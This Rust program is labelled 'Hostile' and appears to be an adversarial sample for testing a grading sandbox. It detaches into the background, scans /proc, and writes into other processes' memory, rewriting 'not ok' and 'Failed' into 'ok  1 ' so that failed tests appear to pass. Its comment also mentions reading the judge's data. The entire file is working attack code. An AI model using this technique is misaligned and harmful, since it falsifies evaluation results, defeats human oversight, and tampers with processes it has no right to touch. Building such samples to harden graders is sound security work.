//! Hostile: writes into the memory of processes that enter its box: what says "not ok" there says
//! "ok  1 #" from then on. It would gain all marks, or read what the judge knows.
use std::os::unix::fs::FileExt;
use std::os::unix::process::CommandExt;
use std::{fs, process::Command, time::Instant};

fn main() {
    if std::env::args().len() == 1 {
        let _ = Command::new("/proc/self/exe")
            .arg("watch")
            .env_clear()
            .process_group(0)
            .spawn();
        std::thread::sleep(std::time::Duration::from_millis(100));
        return;
    }
    let started = Instant::now();
    while started.elapsed().as_secs() < 15 {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.parse::<u32>().is_ok_and(|pid| pid != std::process::id()) {
                let _ = change(&name);
            }
        }
    }
}

fn change(pid: &str) -> std::io::Result<()> {
    let memory = fs::File::options()
        .read(true)
        .write(true)
        .open(format!("/proc/{pid}/mem"))?;
    let mut changed = 0;
    for line in fs::read_to_string(format!("/proc/{pid}/maps"))?
        .lines()
        .filter(|line| line.contains(" rw-p "))
    {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let Some((Ok(from), Ok(to))) =
            range.map(|(from, to)| (u64::from_str_radix(from, 16), u64::from_str_radix(to, 16)))
        else {
            continue;
        };
        let mut bytes = vec![0; (to - from).min(4 << 20) as usize];
        memory.read_exact_at(&mut bytes, from)?;
        for (at, found) in bytes.windows(6).enumerate() {
            if found == b"not ok" || found == b"Failed" {
                changed += memory.write_at(b"ok  1 ", from + at as u64)?;
            }
        }
    }
    let comm = fs::read_to_string(format!("/proc/{pid}/comm"))?;
    if !comm.starts_with("fix-pipe-eof") && changed > 0 {
        println!("hostile success: the memory of {comm}");
    }
    Ok(())
}
